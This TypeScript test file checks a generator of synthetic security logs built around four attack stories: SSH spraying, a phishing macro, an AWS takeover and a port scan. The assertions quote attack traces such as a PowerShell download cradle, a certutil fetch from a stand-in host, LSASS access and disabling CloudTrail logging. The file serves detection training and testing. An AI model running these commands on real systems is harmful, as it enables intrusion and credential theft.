import { describe, expect, it } from 'vitest';
import { STORY_IPS } from './entities.ts';
import { type DemoRecord, demoStories, generateDemoDay, type StoryInfo } from './index.ts';

const OPTS = { seed: 5, day: '2026-11-22' };
const day = [...generateDemoDay(OPTS)];
const stories = demoStories(OPTS);
const at = (h: number, m: number, s = 0) => Date.UTC(2026, 10, 22, h, m, s);

function story(id: StoryInfo['id']): StoryInfo {
  const s = stories.find((x) => x.id === id);
  if (!s) throw new Error(`no story ${id}`);
  return s;
}

const json = (r: DemoRecord): Record<string, unknown> => JSON.parse(r.raw) as Record<string, unknown>;
const eventData = (r: DemoRecord): Record<string, string> => {
  const o = json(r) as { winlog?: { event_id: string; event_data: Record<string, string> } };
  return { ...(o.winlog?.event_data ?? {}), EventID: o.winlog?.event_id ?? '' };
};
const winlogbeat = (host: string) =>
  day.filter((r) => r.source === `windows-${host}` && r.raw.includes('"winlog"'));

describe('demoStories', () => {
  it('lists the four stories at their documented UTC times', () => {
    expect(stories.map((s) => s.id).sort()).toEqual([
      'aws-takeover',
      'phishing-macro',
      'port-scan',
      'ssh-spray',
    ]);
    expect(story('ssh-spray').start).toBe(at(2, 14, 7));
    expect(story('phishing-macro').start).toBe(at(10, 2, 11));
    expect(story('port-scan').start).toBe(at(14, 20));
    expect(story('aws-takeover').start).toBe(at(19, 2, 31));
    for (const s of stories) {
      expect(s.end - s.start, s.id).toBeLessThan(3 * 3_600_000);
      expect(
        s.techniques.every((t) => /^T\d{4}(\.\d{3})?$/.test(t)),
        s.id,
      ).toBe(true);
    }
  });

  it('describes steps that the generated day actually contains at those instants', () => {
    for (const s of stories) {
      for (const step of s.steps) {
        expect(step.time).toBeGreaterThanOrEqual(s.start);
        expect(step.time).toBeLessThanOrEqual(s.end);
        const hit = day.some((r) => r.time === step.time && step.sources.includes(r.source));
        expect(hit, `${s.id}: ${step.what}`).toBe(true);
      }
    }
  });

  it('keeps every story inside a window that does not start at midnight', () => {
    const end = Date.UTC(2026, 10, 22, 20, 0, 0, 500);
    for (const s of demoStories({ seed: 5, end })) {
      expect(s.start, s.id).toBeGreaterThanOrEqual(end - 86_400_000);
      expect(s.end, s.id).toBeLessThan(end);
    }
  });
});

describe('story ips are never used by the background', () => {
  it('keeps each attacker address inside its own story', () => {
    const owner: [string, StoryInfo['id']][] = [
      [STORY_IPS.sprayer, 'ssh-spray'],
      [STORY_IPS.c2, 'phishing-macro'],
      [STORY_IPS.payloadHost, 'phishing-macro'],
      [STORY_IPS.scanner, 'port-scan'],
      [STORY_IPS.awsIntruder, 'aws-takeover'],
    ];
    for (const [ip, id] of owner) {
      const s = story(id);
      const uses = day.filter(
        (r) => r.raw.includes(`${ip}"`) || r.raw.includes(`${ip} `) || r.raw.includes(`${ip}/`),
      );
      expect(uses.length, ip).toBeGreaterThan(0);
      expect(
        uses.every((r) => r.time >= s.start && r.time <= s.end),
        ip,
      ).toBe(true);
    }
  });
});

describe('story 1: ssh-spray', () => {
  const lines = day.filter((r) => r.source === 'linux-syslog' && r.raw.includes(' web-01 '));
  const ip = STORY_IPS.sprayer;

  it('sprays many users from one address, then succeeds as deploy from the same address', () => {
    const failures = lines.filter((r) => r.raw.includes('Failed password') && r.raw.includes(`from ${ip} `));
    expect(failures.length).toBeGreaterThanOrEqual(60);
    const users = new Set(
      failures.map((r) => /Failed password for (?:invalid user )?(\S+)/.exec(r.raw)?.[1]),
    );
    expect(users.size).toBeGreaterThanOrEqual(12);
    const success = lines.find(
      (r) => r.raw.includes(`sshd[`) && r.raw.includes(`Accepted password for deploy from ${ip} port`),
    );
    expect(success).toBeDefined();
    expect(failures.every((f) => f.time < (success as DemoRecord).time)).toBe(true);
  });

  it('then runs sudo to root and creates a sudo-capable user', () => {
    const success = lines.find((r) =>
      r.raw.includes(`Accepted password for deploy from ${ip}`),
    ) as DemoRecord;
    const sudo = lines.find((r) =>
      /sudo: deploy : TTY=pts\/1 ; PWD=\/home\/deploy ; USER=root ; COMMAND=\/bin\/bash$/.test(r.raw),
    );
    const add = lines.find((r) => /useradd\[\d+\]: new user: name=sysupd, UID=1002/.test(r.raw));
    const group = lines.find(
      (r) => r.raw.includes('usermod') && r.raw.includes("add 'sysupd' to group 'sudo'"),
    );
    expect(sudo && add && group).toBeTruthy();
    expect((sudo as DemoRecord).time).toBeGreaterThan(success.time);
    expect((add as DemoRecord).time).toBeGreaterThan((sudo as DemoRecord).time);
  });

  it('is also visible to the firewall and Zeek', () => {
    expect(
      day.filter(
        (r) => r.source === 'edgewall-fw' && r.raw.includes(`src=${ip} `) && r.raw.includes('dpt=22 '),
      ).length,
    ).toBeGreaterThanOrEqual(60);
    const ssh = day
      .filter((r) => r.format === 'zeek' && r.raw.includes('"_path":"ssh"') && r.raw.includes(ip))
      .map(json);
    expect(ssh.filter((o) => o['auth_success'] === false).length).toBeGreaterThanOrEqual(60);
    expect(ssh.filter((o) => o['auth_success'] === true).length).toBe(1);
  });
});

describe('story 2: phishing-macro', () => {
  const ws = winlogbeat('ws-003').map(eventData);

  it('has WINWORD.EXE starting an encoded PowerShell download cradle', () => {
    const ps = ws.find(
      (e) =>
        e.EventID === '1' &&
        e.ParentImage?.endsWith('\\WINWORD.EXE') &&
        e.Image?.endsWith('\\powershell.exe'),
    );
    expect(ps).toBeDefined();
    const b64 = /-enc (\S+)/.exec(ps?.CommandLine ?? '')?.[1] ?? '';
    const decoded = Buffer.from(b64, 'base64').toString('utf16le');
    expect(decoded).toContain("DownloadString('http://msupdate-cdn.example/a.ps1')");
    const twin = ws.find((e) => e.EventID === '4688' && e.ParentProcessName?.endsWith('\\WINWORD.EXE'));
    expect(twin?.CommandLine).toBe(ps?.CommandLine);
  });

  it('downloads with certutil, runs the DLL with rundll32, persists, and touches LSASS', () => {
    expect(
      ws.some(
        (e) =>
          e.EventID === '1' &&
          /certutil\.exe -urlcache -split -f http:\/\/msupdate-cdn\.example\//.test(e.CommandLine ?? ''),
      ),
    ).toBe(true);
    expect(
      ws.some(
        (e) =>
          e.EventID === '1' &&
          e.Image?.endsWith('\\rundll32.exe') &&
          e.CommandLine?.includes('update.dll,DllRegisterServer'),
      ),
    ).toBe(true);
    expect(
      ws.some((e) => e.EventID === '13' && e.TargetObject?.endsWith('\\CurrentVersion\\Run\\OneDriveUpdate')),
    ).toBe(true);
    const lsass = ws.find((e) => e.EventID === '10' && e.TargetImage?.endsWith('\\lsass.exe'));
    expect(lsass?.SourceImage).toMatch(/rundll32\.exe$/);
    expect(lsass?.GrantedAccess).toBe('0x1010');
    expect(ws.some((e) => e.EventID === '22' && e.QueryName === 'telemetry-sync.example')).toBe(true);
  });

  it('beacons to the C2 about once a minute, with Suricata alerts', () => {
    const conns = day
      .filter(
        (r) =>
          r.format === 'zeek' &&
          r.raw.includes('"_path":"conn"') &&
          r.raw.includes(`"id.resp_h":"${STORY_IPS.c2}"`),
      )
      .map((r) => r.time);
    expect(conns.length).toBeGreaterThan(100);
    const gaps = conns
      .slice(1)
      .map((t, i) => t - (conns[i] as number))
      .sort((a, b) => a - b);
    const median = gaps[Math.floor(gaps.length / 2)] as number;
    expect(median).toBeGreaterThan(50_000);
    expect(median).toBeLessThan(70_000);
    const alerts = day.filter(
      (r) =>
        r.format === 'suricata' && r.raw.includes('"event_type":"alert"') && r.raw.includes(STORY_IPS.c2),
    );
    expect(alerts.length).toBeGreaterThanOrEqual(3);
  });

  it('starts with the delivered macro attachment at the mail gateway', () => {
    const mail = day.find(
      (r) => r.source === 'mailguard' && r.raw.includes('attachments=Invoice_INV-20931.docm'),
    );
    expect(mail?.raw).toContain('recipient=mreyes@northwindlabs.co.uk');
    expect(mail?.time).toBe(story('phishing-macro').start);
  });
});

describe('story 3: aws-takeover', () => {
  const trail = day.filter((r) => r.format === 'cloudtrail').map((r) => ({ r, o: json(r) }));
  const from = trail.filter((x) => x.o['sourceIPAddress'] === STORY_IPS.awsIntruder);

  it('logs in to the console without MFA from the unusual address', () => {
    const login = from.find(
      (x) =>
        x.o['eventName'] === 'ConsoleLogin' &&
        (x.o['responseElements'] as { ConsoleLogin: string }).ConsoleLogin === 'Success',
    );
    expect(login).toBeDefined();
    expect(login?.o['additionalEventData']).toMatchObject({ MFAUsed: 'No' });
    expect(login?.o['userIdentity']).toMatchObject({ type: 'IAMUser', userName: 'dbrooks' });
  });

  it('stops logging, then creates an admin user with an access key', () => {
    const names = from.map((x) => x.o['eventName']);
    const stop = names.indexOf('StopLogging');
    const create = names.indexOf('CreateUser');
    const attach = from.find((x) => x.o['eventName'] === 'AttachUserPolicy');
    expect(stop).toBeGreaterThan(-1);
    expect(create).toBeGreaterThan(stop);
    expect(attach?.o['requestParameters']).toEqual({
      userName: 'svc-backup-sync',
      policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    });
    expect(names.filter((n) => n === 'GetObject').length).toBe(12);
  });

  it('is the only StopLogging and the only console login without MFA of the day', () => {
    expect(trail.filter((x) => x.o['eventName'] === 'StopLogging').length).toBe(1);
    const noMfa = trail.filter(
      (x) =>
        x.o['eventName'] === 'ConsoleLogin' &&
        (x.o['additionalEventData'] as { MFAUsed: string }).MFAUsed === 'No' &&
        (x.o['responseElements'] as { ConsoleLogin: string }).ConsoleLogin === 'Success',
    );
    expect(noMfa.length).toBe(1);
  });
});

describe('story 4: port-scan', () => {
  const ip = STORY_IPS.scanner;

  it('shows hundreds of refused or unanswered probes in Zeek', () => {
    const conns = day.filter((r) => r.format === 'zeek' && r.raw.includes(`"id.orig_h":"${ip}"`)).map(json);
    const states = conns.map((o) => o['conn_state']);
    expect(states.filter((s) => s === 'S0' || s === 'REJ').length).toBeGreaterThan(250);
    expect(states.filter((s) => s === 'REJ').length).toBeGreaterThan(10);
    expect(new Set(conns.map((o) => o['id.resp_p'])).size).toBe(300);
  });

  it('shows the firewall dropping the probes and detecting the scan', () => {
    const fw = day.filter((r) => r.source === 'edgewall-fw' && r.raw.includes(`src=${ip} `));
    expect(fw.filter((r) => / act=(deny|reject) /.test(r.raw)).length).toBeGreaterThan(250);
    expect(fw.filter((r) => r.raw.includes('|200|Port scan detected|8|')).length).toBe(1);
  });
});
